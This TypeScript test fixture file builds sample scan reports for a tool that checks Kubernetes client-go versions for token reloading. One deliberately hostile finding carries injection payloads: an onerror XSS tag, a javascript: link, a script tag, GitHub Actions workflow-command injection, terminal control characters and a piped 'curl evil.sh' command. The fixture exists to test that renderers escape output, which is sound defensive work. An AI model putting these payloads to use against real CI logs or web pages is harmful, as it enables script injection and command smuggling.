import type { Diagnostic } from '../../src/model/diagnostic.js';
import type { Finding } from '../../src/model/finding.js';
import { REPORT_SCHEMA_VERSION, type ScanReport } from '../../src/model/report.js';
import type { BaselineView } from '../../src/report/baseline-wording.js';

const STOP_GAP =
  "Stop-gap for programs already running: restart their pods before the token's extended expiry (1 year by default, 90 days on EKS, about 1 hour on AKS with the OIDC issuer); that is not a fix.";

/** A finding with plausible defaults (an ok go.mod reference); tests override what they need. */
export function makeFinding(overrides: Partial<Finding> = {}): Finding {
  return {
    file: 'go.mod',
    line: 5,
    column: 2,
    endLine: 5,
    endColumn: 28,
    source: 'go.mod',
    module: 'k8s.io/client-go',
    declared: 'v0.30.1',
    effective: 'v0.30.1',
    kubernetes: '1.30.1',
    kubernetesLine: '1.30',
    reloadsToken: true,
    verdict: 'ok',
    severity: 'notice',
    rule: 'passes',
    inferred: false,
    indirect: false,
    message: 'client-go v0.30.1 (Kubernetes 1.30.1) re-reads the token file every minute (rest.Config.BearerTokenFile).',
    fix: null,
    related: [],
    ...overrides,
  };
}

/** The file and version a pull request could use to attack whatever renders them. */
export const HOSTILE_FILE = 'evil|dir/<img src=x>/go.mod';
export const HOSTILE_VERSION = 'v1.0.0%0A::error::pwn';

const outdatedV10 = makeFinding({
  file: 'go.mod',
  line: 5,
  column: 22,
  endLine: 5,
  endColumn: 42,
  declared: 'v10.0.0+incompatible',
  effective: 'v10.0.0+incompatible',
  kubernetes: '1.13.0',
  kubernetesLine: '1.13',
  reloadsToken: true,
  verdict: 'outdated',
  severity: 'error',
  rule: 'documented-minimum',
  message:
    'client-go v10.0.0+incompatible (Kubernetes 1.13.0) is below the documented minimum (Kubernetes 1.14: client-go v11.0.0 / v0.15.0), although this release re-reads the token about every 5 minutes through a wrapped transport (kubernetes/kubernetes#67359) (the reload policy passes it).',
  fix: `Run \`go get k8s.io/client-go@v0.15.7 k8s.io/api@v0.15.7 && go mod tidy\`. ${STOP_GAP}`,
  related: [{ file: 'go.mod', line: 9, column: 2, label: 'require line' }],
});

const brokenV11 = makeFinding({
  file: 'cmd/agent/go.mod',
  line: 7,
  column: 2,
  endLine: 7,
  endColumn: 39,
  declared: 'v11.0.0+incompatible',
  effective: 'v11.0.0+incompatible',
  kubernetes: '1.14.0',
  kubernetesLine: '1.14',
  reloadsToken: false,
  verdict: 'outdated',
  severity: 'error',
  rule: 'in-cluster-reload',
  indirect: true,
  message:
    'client-go v11.0.0+incompatible (Kubernetes 1.14.0) meets the documented minimum (Kubernetes 1.14: client-go v11.0.0 / v0.15.0), but it never re-reads the token in-cluster: rest.Config.TransportConfig() drops BearerTokenFile (kubernetes/kubernetes#77613); fixed in 1.14.3 and 1.15.0. The documented policy alone would pass it.',
  fix: `Run \`go get k8s.io/client-go@kubernetes-1.14.3 && go mod tidy\` (or, with semantic-version tags, v0.15.7). ${STOP_GAP}`,
});

const okV0157 = makeFinding({
  file: 'tools/go.mod',
  line: 6,
  column: 2,
  endLine: 6,
  endColumn: 26,
  declared: 'v0.15.7',
  effective: 'v0.15.7',
  kubernetes: '1.15.7',
  kubernetesLine: '1.15',
  message: 'client-go v0.15.7 (Kubernetes 1.15.7) re-reads the token file every minute (rest.Config.BearerTokenFile).',
});

const unknownFork = makeFinding({
  file: 'edge/go.mod',
  line: 14,
  column: 1,
  endLine: 14,
  endColumn: 97,
  declared: 'v0.23.5',
  effective: 'v1.23.5-k3s1',
  kubernetes: null,
  kubernetesLine: null,
  reloadsToken: null,
  verdict: 'unknown',
  severity: 'warning',
  rule: 'unknown-version',
  message:
    'Replaced by the fork github.com/k3s-io/kubernetes/staging/src/k8s.io/client-go v1.23.5-k3s1, which has no published client-go release; the gate cannot tell whether it re-reads the token.',
  fix: `Change the replace on edge/go.mod:14 to \`k8s.io/client-go => k8s.io/client-go v0.23.5\`, then \`go get k8s.io/client-go@v0.23.5 && go mod tidy\`. ${STOP_GAP}`,
  related: [{ file: 'edge/go.mod', line: 8, column: 2, label: 'require line' }],
});

const inferredGoSum = makeFinding({
  file: 'legacy/go.sum',
  line: 3,
  column: 1,
  endLine: 3,
  endColumn: 75,
  source: 'go.sum',
  declared: 'v9.0.0+incompatible',
  effective: 'v9.0.0+incompatible',
  kubernetes: '1.12.0',
  kubernetesLine: '1.12',
  reloadsToken: true,
  verdict: 'outdated',
  severity: 'warning',
  rule: 'inferred-only',
  inferred: true,
  message:
    'client-go v9.0.0+incompatible (Kubernetes 1.12.0) is below the documented minimum (Kubernetes 1.14: client-go v11.0.0 / v0.15.0), although this release re-reads the token about every 5 minutes through a wrapped transport (kubernetes/kubernetes#67359) (the reload policy passes it). Inferred only: this does not fail the check unless fail-on-inferred is set.',
  fix: `Run \`go get k8s.io/client-go@v0.15.7 && go mod tidy\`. ${STOP_GAP}`,
});

const hostile = makeFinding({
  file: HOSTILE_FILE,
  line: 3,
  column: 2,
  endLine: 3,
  endColumn: 40,
  declared: HOSTILE_VERSION,
  effective: HOSTILE_VERSION,
  kubernetes: null,
  kubernetesLine: null,
  reloadsToken: null,
  verdict: 'outdated',
  severity: 'error',
  rule: 'minimum-version',
  message:
    'client-go v1.0.0%0A::error::pwn ::set-output name=x::y @org/team [x](javascript:alert(1)) <img src=x onerror=alert(1)> `a`b` https://evil.example/x #12 | *bold* \u001b[2J\u202Eevil\nnext line',
  fix: `Run \`go get k8s.io/client-go@v0.15.7|curl evil.sh\`\r\n::add-mask::secret, then <script>alert(1)</script>`,
  related: [{ file: HOSTILE_FILE, line: 1, label: 'module line, with a ) and a | in it' }],
});

const diagnostics: Diagnostic[] = [
  { file: 'bin/tool', line: null, message: 'Skipped: 20 MB is larger than max-file-size (16 MB).' },
  { file: 'vendor/modules.txt', line: 3, message: 'Line not understood: `# k8s.io/client-go v0.x`.' },
];

/** Every kind of finding the renderers must handle, one of each, plus two diagnostics. */
export function mixedReport(): ScanReport {
  const findings = [outdatedV10, brokenV11, okV0157, unknownFork, inferredGoSum, hostile];
  return {
    schemaVersion: REPORT_SCHEMA_VERSION,
    tool: { name: 'client-go-token-gate', version: '0.1.0' },
    policy: { name: 'strict', minimumVersion: null, failOn: 'outdated', failOnInferred: false },
    findings: findings.map((finding) => ({ ...finding, related: finding.related.map((location) => ({ ...location })) })),
    diagnostics: diagnostics.map((diagnostic) => ({ ...diagnostic })),
    summary: summarise(findings, 9),
    result: 'fail',
  };
}

/** A scan that found nothing to complain about. */
export function passingReport(): ScanReport {
  const findings = [okV0157];
  return {
    schemaVersion: REPORT_SCHEMA_VERSION,
    tool: { name: 'client-go-token-gate', version: '0.1.0' },
    policy: { name: 'reload', minimumVersion: 'v0.15.7', failOn: 'unknown', failOnInferred: true },
    findings: findings.map((finding) => ({ ...finding })),
    diagnostics: [],
    summary: summarise(findings, 1),
    result: 'pass',
  };
}

/**
 * A pull request under fail-on-scope new: it adds cmd/agent/go.mod (outdated: new, fails), go.mod was already
 * outdated on the base (existing, does not fail), tools/go.mod passes as before, and legacy/go.mod, outdated on
 * the base, is fixed.
 */
export function pullRequestReport(): { report: ScanReport; baseline: BaselineView } {
  const findings = [brokenV11, outdatedV10, okV0157];
  const report: ScanReport = {
    ...mixedReport(),
    findings: findings.map((finding) => ({ ...finding, related: finding.related.map((location) => ({ ...location })) })),
    summary: summarise(findings, 4),
    result: 'fail',
  };
  const fixed = makeFinding({
    file: 'legacy/go.mod',
    line: 6,
    column: 2,
    endLine: 6,
    endColumn: 39,
    declared: 'v11.0.0+incompatible',
    effective: 'v11.0.0+incompatible',
    kubernetes: '1.14.0',
    kubernetesLine: '1.14',
    reloadsToken: false,
    verdict: 'outdated',
    severity: 'error',
    rule: 'in-cluster-reload',
    message: brokenV11.message,
    fix: brokenV11.fix,
  });
  return { report, baseline: { scope: 'new', comparison: { statuses: ['new', 'existing', 'existing'], fixed: [fixed] } } };
}

/** `count` findings over `files` files, verdicts cycling outdated, unknown, ok, for size budgets. */
export function largeReport(count: number, files = 1000, diagnosticCount = 0): ScanReport {
  const findings = Array.from({ length: count }, (_, index): Finding => {
    const verdict = (['outdated', 'unknown', 'ok'] as const)[index % 3] ?? 'ok';
    return makeFinding({
      file: `services/service-${index % files}/go.mod`,
      line: 1 + Math.floor(index / files),
      verdict,
      severity: verdict === 'outdated' ? 'error' : verdict === 'unknown' ? 'warning' : 'notice',
      declared: verdict === 'ok' ? 'v0.30.1' : 'v11.0.0+incompatible',
      effective: verdict === 'ok' ? 'v0.30.1' : 'v11.0.0+incompatible',
      fix: verdict === 'ok' ? null : `Run \`go get k8s.io/client-go@v0.15.7 && go mod tidy\`. ${STOP_GAP}`,
    });
  });
  const diagnostics = Array.from({ length: diagnosticCount }, (_, index): Diagnostic => ({
    file: `vendor/vendor-${index}.json`,
    line: index + 1,
    message: `Could not parse vendor-${index}.json: unexpected token at position ${index}.`,
  }));
  return {
    schemaVersion: REPORT_SCHEMA_VERSION,
    tool: { name: 'client-go-token-gate', version: '0.1.0' },
    policy: { name: 'strict', minimumVersion: null, failOn: 'outdated', failOnInferred: false },
    findings,
    diagnostics,
    summary: summarise(findings, files),
    result: 'fail',
  };
}

function summarise(findings: readonly Finding[], filesScanned: number): ScanReport['summary'] {
  const count = (verdict: Finding['verdict']): number => findings.filter((finding) => finding.verdict === verdict).length;
  return { filesScanned, outdated: count('outdated'), ok: count('ok'), unknown: count('unknown') };
}

/** Characters that act on a terminal or reorder text; no rendered output may contain them raw. */
export const ACTIVE_CONTROL_CHARACTERS = ['\u001b', '\u009b', '\u202e', '\r'] as const;

export function activeControlCharactersIn(text: string): string[] {
  return ACTIVE_CONTROL_CHARACTERS.filter((character) => text.includes(character));
}
